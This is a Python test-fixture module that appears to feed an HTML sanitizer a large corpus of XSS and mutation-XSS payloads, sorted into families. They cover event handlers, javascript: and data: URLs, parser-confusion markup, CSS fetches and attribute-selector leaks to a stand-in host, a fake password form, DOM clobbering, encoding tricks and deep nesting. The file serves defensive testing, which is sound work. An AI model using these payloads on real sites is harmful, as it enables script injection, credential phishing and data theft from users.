"""Letters that try to run, to fetch, to cover or to escape. Written for these tests, by family.

RAN is what a script would do if one ran; AWAY is a place that no letter may reach by itself.
"""
RAN = "window.canary=1;alert(1)"
AWAY = "http://away.example"
B64 = "d2luZG93LmNhbmFyeT0xO2FsZXJ0KDEp"  # RAN


def on_everything():
    """One handler each, on the element where it fires by itself or at a touch."""
    pairs = [
        ("img src=x", "onerror"), ("img src=data:,", "onerror"), ("body", "onload"), ("body", "onpageshow"),
        ("body", "onhashchange"), ("body", "onresize"), ("body", "onbeforeunload"), ("svg", "onload"),
        ("style", "onload"), ("link rel=stylesheet href=data:text/css,", "onload"), ("iframe src=about:blank", "onload"),
        ("input autofocus", "onfocus"), ("textarea autofocus", "onfocus"), ("select autofocus", "onfocus"),
        ("button autofocus", "onfocus"), ("a href=# autofocus", "onfocus"), ("p tabindex=1 autofocus", "onfocus"),
        ("p contenteditable autofocus", "onfocus"), ("details open", "ontoggle"), ("video src=x", "onerror"),
        ("audio src=x", "onerror"), ("marquee", "onstart"), ("p", "onmouseover"), ("p", "onpointerrawupdate"),
        ("p style=animation:a", "onanimationstart"), ("p", "ontransitionend"), ("p", "onwheel"), ("p", "oncopy"),
        ("p", "onbeforematch hidden=until-found "), ("p", "onscrollend"), ("form", "onsubmit"), ("p", "onContentVisibilityAutoStateChange"),
        ("object data=x", "onerror"), ("embed src=x", "onload"), ("p", "onclick"), ("p", "onauxclick"), ("td", "onmouseenter"),
        ("font color=red", "onmouseover"), ("table", "onmousemove"), ("center", "ongotpointercapture"),
    ]
    return [f"<{tag} {event}={RAN}>x" for tag, event in pairs]


def addresses():
    """Each kind of address that a browser may open, in each attribute that takes one."""
    schemes = [
        f"javascript:{RAN}", f"JaVaScRiPt:{RAN}", f"java&#10;script:{RAN}", f"java&#x9;script:{RAN}",
        f"&#1;javascript:{RAN}", f"&#x6a;&#x61;vascript:{RAN}", f"javascript&colon;{RAN}", f"javascript://%0a{RAN}",
        "vbscript:msgbox(1)", f"data:text/html,<script>{RAN}</script>", f"data:text/html;base64,PHNjcmlwdD57{B64}",
        f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RAN}'/>", "blob:http://away.example/x",
        "filesystem:http://away.example/x", "view-source:http://away.example/", "file:///etc/passwd", "about:blank#x",
        f"feed:javascript:{RAN}", f"jar:{AWAY}!/x", "intent://x#Intent;end", "ms-word:ofe|u|http://away.example/x",
        "/api/v1/session", "../../me", "#m1", "?view=trash", "\\\\away.example\\x", "//away.example/x", "http:/api/v1/me",
        "http:away.example", "https:///away.example", f"\tjavascript:{RAN}", f"\u00a0javascript:{RAN}",
        f"javascript\u200b:{RAN}", f"\ufeffjavascript:{RAN}",
    ]
    out = [f'<a href="{s}">go</a>' for s in schemes]
    out += [f'<img src="{s}">' for s in schemes[:20]]
    s = schemes[0]
    out += [
        f'<a xlink:href="{s}">x</a>', f'<svg><a xlink:href="{s}"><text y=20>x</text></a></svg>',
        f'<math href="{s}"><mtext>x</mtext></math>', f'<map name=m><area shape=rect coords=0,0,99,99 href="{s}"></map><img usemap=#m src=x>',
        f'<form action="{s}"><input type=submit></form>', f'<form><button formaction="{s}">x</button></form>',
        f'<isindex action="{s}">', f'<input type=image src="{s}" formaction="{s}">', f'<table background="{s}"><tr><td>x</table>',
        f'<body background="{s}">x', f'<bgsound src="{s}">', f'<layer src="{s}"></layer>', f'<blockquote cite="{s}">x</blockquote>',
        f'<q cite="{s}">x</q>', f'<ins cite="{s}">x</ins>', f'<img longdesc="{s}" lowsrc="{s}" dynsrc="{s}">', f'<iframe src="{s}"></iframe>',
        f'<frameset><frame src="{s}"></frameset>', f'<object data="{s}"></object>', f'<embed src="{s}">', f'<applet code="{s}"></applet>',
        f'<video poster="{s}"></video>', f'<track src="{s}">', f'<base href="{s}//"><a href="x">x</a>', f'<link rel=import href="{s}">',
        f'<link rel=stylesheet href="{s}">', f'<a href="http://away.example/" onclick="{RAN}" ping="{AWAY}/ping">x</a>',
        f'<a href="{AWAY}/" target=_top>x</a>', f'<a href="{AWAY}/" target=_self rel=opener download>x</a>', f'<a href=mailto:a@b.example?body={RAN}>x</a>',
        f'<a href="http://a.example/&quot;onmouseover={RAN}//">x</a>', f"<a href='http://a.example/\" onmouseover=\"{RAN}'>x</a>",
        f'<a href="http://javascript:{RAN}@away.example/">x</a>', f'<p data-remote-src="{s}" data-remote-background="{s}">x</p>',
        f'<img data-remote-src="{s}">', f'<img src="cid:x&quot; onerror=&quot;{RAN}">', f'<img src=\'cid:"onerror={RAN} \'>',
        f'<img data-remote-src=\'http://away.example/"onerror="{RAN}\'>', f'<td data-remote-background=\'http://away.example/"style="{RAN}\'>x',
    ]
    return out


# Text that is one tree for a filter and another one for the browser that parses it again.
MUTATIONS = [
    f'<noscript><p title="</noscript><img src=x onerror={RAN}>">',
    f'<noscript><style></noscript><img src=x onerror={RAN}></style>',
    f'<style><style/><img src=x onerror={RAN}>',
    f'<style><!--</style><img src=x onerror={RAN}>--></style>',
    f'<title><a title="</title><img src=x onerror={RAN}>">',
    f'<textarea><a title="</textarea><img src=x onerror={RAN}>">',
    f'<xmp><p title="</xmp><img src=x onerror={RAN}>"></xmp>',
    f'<noembed><p title="</noembed><img src=x onerror={RAN}>">',
    f'<noframes><p title="</noframes><img src=x onerror={RAN}>">',
    f'<iframe><p title="</iframe><img src=x onerror={RAN}>">',
    f'<plaintext><img src=x onerror={RAN}>',
    f'<listing>&lt;img src=x onerror={RAN}&gt;</listing>',
    f'<xmp>&lt;img src=x onerror={RAN}&gt;</xmp>',
    f'<svg></p><style><a id="</style><img src=x onerror={RAN}>">',
    f'<svg><style><img src=x onerror={RAN}></style></svg>',
    f'<svg><title><style><img title="</style><img src=x onerror={RAN}>"></title></svg>',
    f'<svg><desc><noscript><img title="</noscript><img src=x onerror={RAN}>"></desc></svg>',
    f'<svg><foreignObject><xmp><a title="</xmp><img src=x onerror={RAN}>"></foreignObject></svg>',
    f'<svg><script>{RAN}</script></svg>',
    f'<svg><script href="data:,{RAN}"/></svg>',
    f'<svg><animate onbegin={RAN} attributeName=x dur=1s>',
    f'<svg><a><animate attributeName=href values="javascript:{RAN}" /><text y=20>x</text></a></svg>',
    f'<svg><set attributeName=onmouseover to="{RAN}"/></svg>',
    f'<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=x onerror={RAN} /></svg>#x"/>',
    f'<svg><image href="{AWAY}/s.png"/><feImage href="{AWAY}/f.png"/></svg>',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RAN}&gt;">',
    f'<form><math><mtext></form><form><mglyph><style></math><img src onerror={RAN}>',
    f'<math><annotation-xml encoding="text/html"><style><img src=x onerror={RAN}></style></annotation-xml></math>',
    f'<math><mi><mglyph><svg><mtext><style><path id="</style><img onerror={RAN} src=x>">',
    f'<math><maction actiontype=statusline xlink:href="javascript:{RAN}">x</maction></math>',
    f'<math><![CDATA[</math><img src=x onerror={RAN}>]]></math>',
    f'<svg><![CDATA[><img src=x onerror={RAN}>]]></svg>',
    f'<![CDATA[<img src=x onerror={RAN}>]]>',
    f'<!--><img src=x onerror={RAN}>-->',
    f'<!---><img src=x onerror={RAN}>-->',
    f'<!--[if gte IE 4]><img src=x onerror={RAN}><![endif]-->',
    f'<!--[if !x]><!--><b>kept</b><!--<![endif]--><img src=x onerror={RAN}>',
    f'<![if !mso]><img src=x onerror={RAN}><![endif]>',
    f'<!-- --!><img src=x onerror={RAN}> -->',
    f'<!-- a<!-- --><img src=x onerror={RAN}>',
    f'<?xml version="1.0"?><img src=x onerror={RAN}>',
    f'<?php "?><img src=x onerror={RAN}>',
    f'<%<!--%><img src=x onerror={RAN}>-->',
    f'<comment><img src="</comment><img src=x onerror={RAN}//">',
    f'</p title="><img src=x onerror={RAN}>">',
    f'</ <img src=x onerror={RAN}>',
    f'<img """><img src=x onerror={RAN}>"">',
    f'<img src="a"b="c" onerror={RAN} \'">',
    f'<img/src=x/onerror={RAN}>',
    f'<img\x0csrc=x\x0conerror={RAN}>',
    f'<img src=`x`onerror={RAN}>',
    f'<img src=x alt="`` onerror={RAN}">',
    f'<p title="`><img src=x onerror={RAN}>`">x</p>',
    f'<p title=\'"><img src=x onerror={RAN}>\'>x</p>',
    f'<table><a title="</table><img src=x onerror={RAN}>"><tr><td>x</table>',
    f'<table><img src=x onerror={RAN}><tr><td>y</table>',
    f'<table><style><td></style><img src=x onerror={RAN}></table>',
    f'<table><caption><svg><title><table><tr><td><img src=x onerror={RAN}>',
    f'<template><img src=x onerror={RAN}></template>',
    f'<template><s><template><s><img src=x onerror={RAN}></s></template></s></template>',
    f'<template shadowrootmode=open><img src=x onerror={RAN}></template>',
    f'<p><template shadowrootmode=open><style>:host{{all:initial}}</style><script>{RAN}</script></template></p>',
    f'<select><template><img src=x onerror={RAN}></template></select>',
    f'<select><option><style></option></select><img src=x onerror={RAN}></style>',
    f'<select><noscript></select><img src=x onerror={RAN}>',
    f'<form id=a><form id=b><input name=c><img src=x onerror={RAN}></form>',
    f'<a><a><b><a><b><a><i><img src=x onerror={RAN}>',
    f'<b><p><b><p><b><p title="<img src=x onerror={RAN}>">',
    f'<p><font><table><tr><td><a><font><p><img src=x onerror={RAN}>',
    f'<frameset><noframes></frameset><img src=x onerror={RAN}>',
    f'<html><head><style></head><body><img src=x onerror={RAN}>',
    f'<head><title></head><body onload={RAN}>',
    f'<body><p>one<body onload={RAN} background={AWAY}/b.png>',
    f'<script>{RAN}</script>', f'<SCRIPT>{RAN}</SCRIPT >', f'<script/x>{RAN}</script>', f'<script\n>{RAN}</script\n>',
    f'<script src=data:,{RAN}></script>', f'<script src=//away.example/x.js></script>', f'<script type=module>{RAN}</script>',
    f'<scr<script>ipt>{RAN}</scr</script>ipt>', f'<<script>{RAN}//<</script>', f'<script>{RAN}', f'<script <b>{RAN}</script>',
    '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["http://away.example/spec"]}]}</script>',
    '<script type=importmap>{"imports":{"x":"http://away.example/x.js"}}</script>',
    f'&lt;script&gt;{RAN}&lt;/script&gt;', f'&amp;lt;img src=x onerror={RAN}&amp;gt;', f'&#60;img src=x onerror={RAN}&#62;',
    f'<pre>\n\n<img src=x onerror={RAN}></pre>', f'<textarea>\n\n</textarea><img src=x onerror={RAN}>',
    f'<o:p><img src=x onerror={RAN}></o:p>', f'<v:shape onload={RAN}><v:imagedata src="{AWAY}/v.png"/></v:shape>',
    f'<xml><i><b>&lt;img src=x onerror={RAN}&gt;</b></i></xml><span datasrc=#x datafld=b dataformatas=html></span>',
    f'<custom-element onfocus={RAN} tabindex=1 autofocus>x</custom-element>', f'<x is=y onclick={RAN}>x</x>',
    f'<ruby><rtc><rt><img src=x onerror={RAN}>', f'<dialog open onclose={RAN}><form method=dialog><button>x</button></form></dialog>',
    f'<p popover onbeforetoggle={RAN}>x</p><button popovertarget=x>y</button>', f'<slot onslotchange={RAN}>x</slot>',
    f'<portal src={AWAY}/portal></portal>', f'<fencedframe src={AWAY}/f></fencedframe>', f'<keygen autofocus onfocus={RAN}>',
    f'<math><mi//xlink:href="data:x,<script>{RAN}</script>">', f'<svg/onload={RAN}//', f'<svg><br><img src=x onerror={RAN}>',
    f'<svg><p><style><g title="</style><img src=x onerror={RAN}>">', f'<svg xmlns:x="x"><x:script xmlns:x="http://www.w3.org/1999/xhtml">{RAN}</x:script></svg>',
]


def css(v):
    return [f'<p style="{v}">x</p>', f"<style>p{{{v}}}</style><p>x</p>".replace("&quot;", '"')]


STYLES = sum((css(v) for v in [
    f"width:expression({RAN})", f"width:exp/**/ression({RAN})", f"width:\\65xpression({RAN})",
    f"background:url(javascript:{RAN})", f"background:url({AWAY}/bg.png)", f"background:u\\72l({AWAY}/esc.png)",
    f"background:URL( '{AWAY}/quote.png' )", f"background:url({AWAY}/a.png),url({AWAY}/b.png)",
    f"background-image:image-set('{AWAY}/set.png' 1x)", f"background-image:-webkit-image-set(url({AWAY}/wset.png) 1x)",
    f"background:image({AWAY}/image.png)", f"background:cross-fade(url({AWAY}/fade.png),red)", f"background:src('{AWAY}/src.png')",
    f"--a:url({AWAY}/var.png);background:var(--a)", f"background:var(--b,url({AWAY}/var2.png))",
    f"list-style:url({AWAY}/list.png)", f"list-style-image:url({AWAY}/list.png)", f"content:url({AWAY}/content.png)",
    f"cursor:url({AWAY}/cursor.cur),auto", f"border-image:url({AWAY}/border.png) 30", f"border-image-source:url({AWAY}/bs.png)",
    f"mask:url({AWAY}/mask.svg#x)", f"-webkit-mask-image:url({AWAY}/wmask.png)", f"filter:url({AWAY}/filter.svg#x)",
    f"clip-path:url({AWAY}/clip.svg#x)", f"shape-outside:url({AWAY}/shape.png)", f"offset-path:url({AWAY}/o.svg#x)",
    f"behavior:url({AWAY}/x.htc)", f"-moz-binding:url({AWAY}/x.xml#x)", f"-o-link:'javascript:{RAN}';-o-link-source:current",
    "position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:red",
    "position:absolute;inset:-9999px;z-index:99999", "position:sticky;top:0", "transform:scale(999)", "width:999999px;height:999999px",
    "margin:-9999px;padding:9999px", f"color:red;}}@import '{AWAY}/imp.css';p{{", f"font-family:'x;}}@import {AWAY}'",
    f"color:red&quot;onmouseover=&quot;{RAN}", f"font-&quot;x:red;background:url({AWAY}/name.png)", f"border-&quot;\n;background:url({AWAY}/n2.png);x:y",
    f"text-(;background:url({AWAY}/round.png);):x", "color:red;&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;",
    f"background:/*url(*/url(/*)*/{AWAY}/com.png)", f"background:\\75\\72\\6c({AWAY}/hex.png)", f"background:url\\28{AWAY}/p.png\\29",
    f"background:attr(data-x url)", f"background-image:paint(x)", f"background:element(#x)", f"font:12px/1 url({AWAY}/f)",
    f"animation:x 1s;animation-name:url({AWAY}/a)", "all:unset;color-scheme:dark", f"src:url({AWAY}/font.woff)",
]), [])

SHEETS = [
    f"<style>@import '{AWAY}/a.css';</style>x", f"<style>@import url({AWAY}/b.css) screen;p{{color:red}}</style><p>x",
    f"<style>@\\69mport '{AWAY}/c.css';</style>x", f"<style>@im/**/port '{AWAY}/d.css';</style>x", f"<style>@charset 'x';@import'{AWAY}/e.css'</style>x",
    f"<style>@font-face{{font-family:x;src:url({AWAY}/x.woff)}}p{{font-family:x}}</style><p>x",
    f"<style>@namespace url({AWAY}/n);p{{color:red}}</style><p>x", f"<style>@document url({AWAY}){{p{{color:red}}}}</style><p>x",
    f"<style>@media all{{@import '{AWAY}/m.css';p{{background:url({AWAY}/m.png)}}}}</style><p>x",
    f"<style>@supports(color:red){{p{{background:url({AWAY}/sup.png)}}}}</style><p>x",
    f"<style>@layer x{{p{{background:url({AWAY}/lay.png)}}}}@container(min-width:1px){{p{{background:url({AWAY}/con.png)}}}}</style><p>x",
    f"<style>@property --x{{syntax:'<url>';inherits:true;initial-value:url({AWAY}/prop.png)}}</style><p>x",
    f"<style>p{{& b{{background:url({AWAY}/nest.png)}}}}</style><p><b>x",
    f"<style>a[href^='http']{{background:url({AWAY}/leak?a)}}</style><a href=http://away.example/>x</a>",
    f"<style>input[value^='a']{{background:url({AWAY}/leak?b)}}</style><input value=abc>",
    f"<style>a[title=\"{{p{{background:url({AWAY}/sel.png)}}</style><p>x", f"<style>a['{{color:red}}\nbackground:url(http:away.example){{color:red}}</style><p>x",
    f"<style><!-- p{{background:url({AWAY}/cdo.png)}} --></style><p>x", f"<style>p{{color:red</style><p>x", f"<style>}}}}p{{background:url({AWAY}/br.png)}}</style><p>x",
    f"<style>p{{background:url('{AWAY}/\nnl.png')}}</style><p>x", f"<style>*{{position:fixed!important;inset:0;background:red}}</style><p>x",
    f"<style media=\"}}p{{background:url({AWAY}/media.png)\">p{{color:red}}</style><p>x", f"<style type=text/x>{RAN}</style>x",
    f"<link rel=stylesheet href={AWAY}/l.css>x", f"<link rel=prefetch href={AWAY}/p>x", f"<link rel=preload as=image href={AWAY}/pl>x",
    f"<link rel=dns-prefetch href=//dns.away.example>x", f"<link rel=preconnect href=//pre.away.example>x", f"<link rel=prerender href={AWAY}/pr>x",
    f"<link rel=modulepreload href={AWAY}/m.js>x", f"<link rel=icon href={AWAY}/i.ico>x", f"<link rel=manifest href={AWAY}/m.json>x",
    f"<style>@font-face{{font-family:x;src:local(x),url(data:font/woff,x)}}@keyframes a{{to{{background:url({AWAY}/kf.png)}}}}p{{animation:a 1s}}</style><p>x",
]

FETCHES = [
    f'<img src="{AWAY}/pixel.png" width=1 height=1>', f'<img srcset="{AWAY}/s.png 1x, {AWAY}/s2.png 2x">', f'<img src=cid:none srcset={AWAY}/s3.png>',
    f'<picture><source srcset={AWAY}/pic.webp><img src={AWAY}/pic.png></picture>', f'<img loading=eager decoding=sync fetchpriority=high crossorigin src={AWAY}/c.png>',
    f'<video src={AWAY}/v.mp4 poster={AWAY}/po.png autoplay preload=auto></video>', f'<audio src={AWAY}/a.mp3 autoplay></audio>',
    f'<video><source src={AWAY}/v2.mp4><track default src={AWAY}/t.vtt></video>', f'<body background={AWAY}/body.png>x', f'<table background={AWAY}/table.png><tr background={AWAY}/tr.png><td background={AWAY}/td.png>x</table>',
    f'<input type=image src={AWAY}/in.png>', f'<iframe src={AWAY}/frame></iframe>', f'<iframe srcdoc="&lt;script&gt;{RAN}&lt;/script&gt;&lt;img src={AWAY}/doc.png&gt;"></iframe>',
    f'<object data={AWAY}/o.swf type=application/x-shockwave-flash><param name=movie value={AWAY}/m.swf></object>', f'<embed src={AWAY}/e.svg>', f'<applet archive={AWAY}/x.jar code=X></applet>',
    f'<meta http-equiv=refresh content="0;url={AWAY}/refresh">x', f'<meta http-equiv=refresh content="0;url=javascript:{RAN}">x', f'<meta http-equiv=refresh content="0;url=data:text/html,<script>{RAN}</script>">x',
    f'<meta http-equiv=Link content="<{AWAY}/h.css>;rel=stylesheet">x', f'<meta http-equiv=Content-Security-Policy content="default-src *;script-src * \'unsafe-inline\'"><script>{RAN}</script>',
    f'<meta http-equiv=Set-Cookie content="wellspring=stolen">x', f'<meta name=referrer content=unsafe-url><img src={AWAY}/ref.png>', '<meta http-equiv=x-dns-prefetch-control content=on><a href=http://link.away.example/>x</a>',
    f'<base href={AWAY}/><img src=base.png><a href=base>x</a>', f'<base target=_top><a href={AWAY}/top>x</a>', f'<form action={AWAY}/form method=post target=_top><input name=password type=password><button>log in</button></form>',
    f'<button form=x formaction={AWAY}/fa formtarget=_top>x</button>', f'<a href={AWAY}/p ping={AWAY}/ping>x</a>', f'<a href={AWAY}/attr attributionsrc={AWAY}/as>x</a><img attributionsrc={AWAY}/as2>', f'<html manifest={AWAY}/m.appcache>x',
    f'<svg><image xlink:href={AWAY}/si.png /></svg>', f'<img src="//away.example/proto.png">', f'<img src="\\\\away.example\\unc.png">', f'<img src="{AWAY}/x.png" referrerpolicy=unsafe-url>', f'<iframe allow="camera" sandbox="allow-scripts" src="data:text/html,<script>{RAN}</script>"></iframe>',
    f'<body style="background:url({AWAY}/bs.png)">x', f'<td style="background:#fff url(&quot;{AWAY}/q%22%29.png&quot;) no-repeat">x', f'<div style="background-image:url({AWAY}/a\').png)">x</div>',
]

CLOBBERS = [
    '<img name=body><form name=cookie></form>', '<form id=document><input name=cookie><input name=body></form>', '<a id=canary href=http://away.example/></a><a id=canary name=x></a>',
    '<form name=getElementById></form><img name=querySelector><img name=createElement>', '<iframe name=parent></iframe><a id=top></a><img name=opener>', '<p id=subject tabindex=0>x</p><p id=m1>x</p>',
    '<form id=f><input name=attributes><input name=childNodes><input name=parentNode><input name=nodeType></form>', '<p class="msg inbound toasts flow" id=app style="z-index:9">x</p>', '<output id=URL><object name=location data=x></object>',
    '<input id=x form=x name=action><label for=q>x</label><form id=x></form>', '<p accesskey=r tabindex=1 autofocus contenteditable draggable=true spellcheck inert popover>x</p>', '<p slot=x part=y exportparts=z itemref=m1 is=x nonce=y>x</p>',
    '<p role=dialog aria-live=assertive aria-modal=true aria-label=x aria-owns=m1>x</p>', '<div hidden=until-found>x</div><p contextmenu=x translate=no>x</p>',
]

ENCODINGS = [
    f'+ADw-script+AD4-{RAN}+ADw-/script+AD4-', f'<meta charset=utf-7>+ADw-img src=x onerror={RAN}+AD4-', f'<meta charset=iso-2022-jp><a title="\x1b$B">\x1b(B<img src=x onerror={RAN}>">',
    f'<scr\0ipt>{RAN}</scr\0ipt>', f'<img src=x on\0error={RAN}>', f'<im\0g src=x onerror={RAN}>', f'<a href="java\0script:{RAN}">x</a>', f'\ufeff<script>{RAN}</script>', f'<\ufeffscript>{RAN}</script>',
    f'\u00bcscript\u00be{RAN}\u00bc/script\u00be', f'\uff1cscript\uff1e{RAN}\uff1c/script\uff1e', f'<img src=x onerror\u00a0={RAN}>', f'<\u017fcript>{RAN}</\u017fcript>', f'<\u212aeygen autofocus onfocus={RAN}>',
    f'<p title="\u2028"><img src=x onerror={RAN}>', f'<p title=\ud7ff\ue000><img src=x onerror={RAN}>', f'<img src=x onerror=\u0061lert(1)>', f'<p>\x85\x0b\x0c\x1f<img\x0bsrc=x\x0conerror={RAN}>', '<p>\u202e<a href=http://away.example/>\u2066reversed\u2069</a>',
    '<a href=http://\u0430way.example/>homograph</a>', '<a href="http://good.example@away.example/">x</a>', f'<a href="http://good.example\\@away.example/" title="{RAN}">x</a>', '<a href="https://a.example/%00%0d%0aSet-Cookie:x=y">x</a>',
]

NESTED = [
    "<div>" * 3000 + f"<img src=x onerror={RAN}>", "<b><p>" * 800 + f"<img src=x onerror={RAN}>", "<table><tr><td>" * 400 + f"<img src=x onerror={RAN}>", "<svg>" * 600 + f"<script>{RAN}</script>",
    "<font><a>" * 500 + f"<style><img src=x onerror={RAN}>", "<select>" * 300 + f"<script>{RAN}</script>", "<p a=b>" * 500 + f"<script>{RAN}</script>", "<template>" * 600 + f"<img src=x onerror={RAN}>",
    "<form><math><mtext></form>" * 200 + f"<mglyph><style></math><img src onerror={RAN}>", f"<p {'a=b ' * 3000}onmouseover={RAN}>x", f"<p style='{'color:red;' * 3000}background:url({AWAY}/long.png)'>x", f"<img src=x {'x' * 70000} onerror={RAN}>",
    f"<!--{'-' * 50000}><img src=x onerror={RAN}>", f"<a href='{' ' * 9000}javascript:{RAN}'>x</a>", "<ul><li>" * 600 + f"<img src=x onerror={RAN}>", "<i><marquee>" * 20 + f"<img src=x onerror={RAN}>",
]

FAMILIES = {
    "handlers": on_everything(), "addresses": addresses(), "mutations": MUTATIONS, "styles": STYLES, "sheets": SHEETS,
    "fetches": FETCHES, "clobbers": CLOBBERS, "encodings": ENCODINGS, "nested": NESTED,
}


def own():
    """(name, HTML) of all of them."""
    return [(f"{family}-{i + 1}", html) for family, some in FAMILIES.items() for i, html in enumerate(some)]
